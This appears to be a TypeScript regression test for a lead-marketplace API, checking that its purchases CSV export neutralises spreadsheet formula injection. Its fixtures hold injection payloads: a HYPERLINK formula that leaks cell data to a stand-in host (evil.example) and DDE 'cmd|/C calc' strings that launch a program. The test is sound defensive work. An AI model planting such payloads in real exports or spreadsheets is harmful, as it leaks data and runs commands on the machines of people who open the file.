// Finding 11: GET /purchases/csv exported seller-written cells starting with =, +, -, @ as they were, so a buyer
// opening the file in a spreadsheet ran the seller's formula. Such cells now start with a quote and stay quoted.
import { createRequire } from 'node:module';
import { signUpAs, type TestUser } from '../helpers/actors';
import { buyThroughStripe, createSellerActor, listLeads, sharedLead } from '../helpers/market-fixtures';
import { startTestApp, type TestApp } from '../helpers/test-app';

// csv-parse is the api package's dependency, not the tests': load it from there (the same reader CSV imports use)
const { parse } = createRequire(new URL('../../api/package.json', import.meta.url))('csv-parse/sync') as { parse: (text: string) => string[][] };

let app: TestApp;
let buyer: TestUser;
beforeAll(async () => {
  app = await startTestApp({ label: 'csvinject', stripe: true });
  buyer = await signUpAs(app, 'BUYER');
});
afterAll(() => app.close());

const FORMULA = /^[=+\-@\t\r]/;

describe('the purchases CSV', () => {
  it('neutralises every cell a seller made start like a formula, and keeps the rest as written', async () => {
    const hostile = {
      fullName: '=HYPERLINK("http://evil.example/?leak="&B,"Open")',
      city: '+1+cmd|"/C calc"!A0',
      preferredContactTime: '@SUM(A1)',
    };
    const hostile2 = { fullName: '-Maria+cmd|"/C calc"!A', city: '@Springfield', preferredContactTime: '=1+1' };
    const seller = await createSellerActor(app);
    const [hostileId, hostile2Id, plainId] = await listLeads(app, seller, [
      sharedLead(3, hostile),
      sharedLead(3, hostile2),
      sharedLead(3, { fullName: 'Maria Lopez', city: 'Los Angeles' }),
    ]);
    await buyThroughStripe(app, { userId: buyer.userId, organizationId: buyer.organizationId, role: 'BUYER', via: 'session' }, [
      hostileId!,
      hostile2Id!,
      plainId!,
    ]);

    const res = await fetch(`${app.url}/purchases/csv`, { headers: { authorization: `Bearer ${buyer.token}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const text = await res.text();
    const [header, ...rows] = parse(text);
    expect(rows).toHaveLength(3);
    const column = (row: string[], name: string) => row[header!.indexOf(name)]!;
    const rowOf = (id: string) => rows.find((r) => column(r, 'lead_id') === id)!;
    const [hostileRow, hostile2Row, plainRow] = [rowOf(hostileId!), rowOf(hostile2Id!), rowOf(plainId!)];

    for (const [row, cells] of [
      [hostileRow, hostile],
      [hostile2Row, hostile2],
    ] as const) {
      expect(column(row, 'full_name')).toBe(`'${cells.fullName}`);
      expect(column(row, 'city')).toBe(`'${cells.city}`);
      expect(column(row, 'preferred_contact_time')).toBe(`'${cells.preferredContactTime}`);
    }
    // E.164 phones start with "+": a spreadsheet would read them as a formula too
    expect(column(hostileRow, 'phone')).toMatch(/^'\+1\d{10}$/);
    expect(column(hostile2Row, 'full_name')).toBe(`'-Maria+cmd|"/C calc"!A`);
    // the neutralised cells are quoted in the file, so the quote and the cell stay one field
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&B,""Open"")"`);
    expect(text).toContain(`"'@SUM(A1)"`);
    expect(text).toContain(`"'=1+1"`);

    // no cell of the whole file is left that a spreadsheet would run
    for (const row of [header!, ...rows]) for (const cell of row) expect(cell).not.toMatch(FORMULA);
    expect(column(plainRow, 'full_name')).toBe('Maria Lopez');
    expect(column(plainRow, 'city')).toBe('Los Angeles');
    expect(column(plainRow, 'price')).toMatch(/^\d+\.\d{2}$/);
  });
});
